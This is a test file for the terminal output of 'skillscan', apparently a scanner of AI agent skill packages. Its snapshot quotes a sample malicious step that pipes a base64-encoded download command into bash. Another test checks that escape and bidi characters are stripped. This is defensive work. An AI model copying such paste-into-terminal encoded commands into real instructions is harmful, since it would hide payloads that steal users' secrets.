import stringWidth from "string-width";
import { describe, expect, test } from "vitest";
import { renderTerminal } from "../../src/report/terminal.ts";
import { sampleFinding, sampleReport } from "./sample-report.ts";

const plain = { columns: 80, colour: false, detail: "normal" } as const;

test("a person sees verdict, reason, what to do, places, proof, gaps and the registry's own word", () => {
  expect(renderTerminal([sampleReport()], plain)).toMatchInlineSnapshot(`
    "MALICIOUS  @someone/weather@1.0.0  score 90/100

      SKILL.md:12 decodes to a download from 192.0.2.7 and runs it.
      What to do: do not install it. Where it was already installed, remove it,
      treat every secret that the agent could read as stolen, and check the steps
      below by hand before reporting it to the registry.

    What it can do
      contacts        192.0.2.7*
      runs            bash
      * not accounted for by its description, homepage, requires or install

    Findings

      critical  +90
        Encoded text is decoded and run
        execution/encoded-command · confidence high · intent
        decodes to a download from 192.0.2.7 and runs it
        SKILL.md:12:1
          11 | Paste this into Terminal:
        > 12 | echo Y3VybA== | base64 -D | bash
        Step by step:
          1. SKILL.md:11 tells the person to paste it
          2. SKILL.md:12 downloads from 192.0.2.7 and runs the answer (decoded text,
             hidden as base64)
        Why: Nobody can read what runs.
        To clear it: Say in plain text what is run.

    Score
       +90  critical, high confidence

    Proofs
      verified  2 files as listed

    Not looked at
      encrypted: a.zip: encrypted

    The registry says
      https://registry.example: clean

    Notes
      renamed from forecast

    skill, 2 files, 2 KB · skillscan 0.1.0, signatures abababababab
    "
  `);
});

test("the line of the verdict does not run over the edge of a narrow window", () => {
  const report = sampleReport({ target: `/home/someone/skills/${"harbour-".repeat(6)}weather` });
  const lines = renderTerminal([report], { ...plain, columns: 40 }).split("\n");
  for (const line of lines.slice(0, 6)) expect(stringWidth(line)).toBeLessThanOrEqual(40);
  expect(lines[0]).toMatch(/^MALICIOUS {2}score \d+\/100$/u);
});

test("quiet is one line a target", () => {
  const text = renderTerminal([sampleReport(), sampleReport({ verdict: "clean", score: 0 })], {
    ...plain,
    detail: "quiet",
  });
  expect(text.trimEnd().split("\n")).toHaveLength(2);
  expect(text).toMatch(/^malicious +90 +@someone\/weather@1\.0\.0/);
});

test("an incomplete scan never reads as clean without a word", () => {
  const text = renderTerminal([sampleReport({ verdict: "clean", score: 0, findings: [], complete: false })], plain);
  expect(text).toContain("NOT FULLY SCANNED");
  expect(text).toContain("not everything could be looked at");
});

describe("a hostile package cannot write to the terminal", () => {
  const evil = "\u001B[2Jname\u202E\u0007";
  const text = renderTerminal(
    [
      sampleReport({
        target: evil,
        because: evil,
        notes: [evil],
        capabilities: [{ kind: "runs-command", subject: evil, declared: false, at: [] }],
        findings: [
          sampleFinding({
            message: evil,
            at: { path: evil, line: 1, column: 1 },
            excerpt: [{ line: 1, text: evil }],
            chain: [1, 2].map((line) => ({
              at: { path: evil, line, column: 1 },
              layers: [],
              does: evil,
              snippet: evil,
            })),
          }),
        ],
        gaps: [{ code: "unparsable", path: evil, message: evil, blocking: true }],
        proofs: [{ kind: "oms", status: "invalid", message: evil, problems: [] }],
        registry: {
          registry: evil,
          verdict: "clean",
          summary: evil,
          reasons: [evil],
          matchesVersion: null,
          malwareBlocked: false,
        },
      }),
    ],
    { ...plain, detail: "verbose" },
  );
  test("no control, bidi or invisible character is printed", () => {
    expect(text).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E]/);
    expect(text).toContain("<U+001B>");
  });
});

test.each([40, 60, 80, 200])("no line is wider than a terminal of %i columns", (columns) => {
  const long = sampleReport({
    because: `It downloads https://${"a".repeat(150)}.example/x and 文字列文字列文字列文字列文字列文字列文字列 more.`,
    findings: [sampleFinding({ excerpt: [{ line: 12, text: "x".repeat(300) }] })],
  });
  const lines = renderTerminal([long], { ...plain, columns, detail: "normal" }).split("\n");
  expect(Math.max(...lines.slice(1).map((line) => stringWidth(line)))).toBeLessThanOrEqual(columns);
});

test("colours appear only when asked for", () => {
  expect(renderTerminal([sampleReport()], plain)).not.toContain("\u001B[");
  expect(renderTerminal([sampleReport()], { ...plain, colour: true })).toContain("\u001B[");
});
